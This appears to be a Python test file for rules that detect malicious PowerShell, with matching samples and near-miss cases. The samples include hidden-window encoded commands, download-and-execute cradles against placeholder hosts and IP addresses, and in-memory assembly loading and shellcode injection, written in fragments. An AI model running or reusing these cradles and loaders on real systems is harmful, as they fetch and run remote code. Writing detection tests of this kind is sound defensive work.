"""Behaviour of the rules for PowerShell."""

from rules.bundle.samples import ADDRESS, PROSE, Case, encoded, filler, text, wide

_LINE = ("powershell.exe -N", "oP -w hid", "den -en", "c ")
_CRADLE = (
    "IEX (New-Object Net.Web",
    "Client).Download",
    "String('http://files.example/a')",
)

CASES = {
    "Clearward_PowerShell_Encoded_Command": Case(
        samples=(
            text(
                *_LINE, encoded("Write-Output 'a harmless line, long enough to count'")
            ),
            text("cmd /c PowerShell -e ", encoded(*_CRADLE)),
            wide(
                *_LINE, encoded("Write-Output 'a harmless line, long enough to count'")
            ),
        ),
        near_misses=(
            text(
                "powershell -NoProfile -EncodedCommand ",
                encoded("Get-ChildItem C:\\Reports | Measure-Object | Out-Host"),
            ),
            text(
                "powershell.exe -NoProfile -WindowStyle Hid§den -File ",
                "C:\\Tools\\tray.ps1",
            ),
            text(
                "powershell -ExecutionPolicy Bypass -File ",
                "\\\\server\\share\\setup.ps1 -nop -w hid§den",
            ),
            text(PROSE, "An encoded command is passed with -EncodedCommand or -enc."),
        ),
    ),
    "Clearward_PowerShell_Hidden_Cradle": Case(
        samples=(
            text("powershell -w hid", "den -c ", *_CRADLE),
            text(
                "PowerShell -WindowStyle Hid",
                "den -Command (New-Object Net.WebClient).Down",
                "loadFile('http://files.example/a', 'a.exe'); S§tart-Process a.exe",
            ),
        ),
        near_misses=(
            text(
                'powershell -NoProfile -ExecutionPolicy Bypass -Command "iex ',
                "((New-Object",
                " ",
                "S§ystem.Net.WebClient).DownloadString('https://packages.example/install.ps1'))\"",
            ),
            text(
                "powershell -WindowStyle Hid§den -File C:\\Tools\\tray.ps1\r\n",
                "iex ((New-Object ",
                "Net.WebClient).DownloadString('https://packages.example/i'))",
            ),
            text(
                "powershell -w h§idden -c Invoke-WebRequest https://status.example/ping"
            ),
        ),
    ),
    "Clearward_PowerShell_Address_Cradle": Case(
        samples=(
            text(
                "IE",
                "X (New-Object Net.WebClient).Down",
                f"loadString('http://{ADDRESS}/a.ps1')",
            ),
            text(
                "Invoke-Web",
                f"Request -UseBasicParsing http://{ADDRESS}:8080/a | ie",
                "x",
            ),
        ),
        near_misses=(
            text("iex (iwr http://10.1.2.3/bootstrap.ps1)"),
            text(
                "iex ((New-Object ",
                "Net.WebClient).DownloadString('http://192.168.0.9/a.ps1'))",
            ),
            text(
                "Inv§oke-WebRequest http://198.51.100.7/report.csv -OutFile report.csv"
            ),
            text("iex (irm https://get.example/version/1.2.3.4)"),
        ),
    ),
    "Clearward_PowerShell_Memory_Load": Case(
        samples=(
            text(
                "$b = [Convert]::FromBase",
                "64String('",
                filler("TVqQAA", 240),
                "')\n",
                "$a = [Reflection.Assem",
                "bly]::Load($b)\n",
                "$a.EntryPoint.Inv",
                "oke($null, @())",
            ),
            text(
                "$b = [Convert]::FromBase",
                "64String($text)\n$m = $k::Virtual",
                "Alloc(0, 9)\n",
                "[Runtime.InteropServices.Marshal]::Co",
                "py($b, 0, $m, 9)\n",
                "[Runtime.InteropServices.Marshal]::GetDelegateForFunc",
                "tionPointer($m, $t)",
            ),
        ),
        near_misses=(
            text(
                "$bytes = [Convert]::FromBase64String($text)\n",
                "[IO.File]::WriteAllBytes($path, $bytes)",
            ),
            text(
                "$a = ",
                "[Reflection.Assembly]::Load([IO.File]::ReadAllBytes($path))\n",
                "$a.GetTypes()",
            ),
            text(
                "[System.Reflection.Assembly]::LoadWithPartialName('System.Windows.Forms')"
            ),
        ),
    ),
}
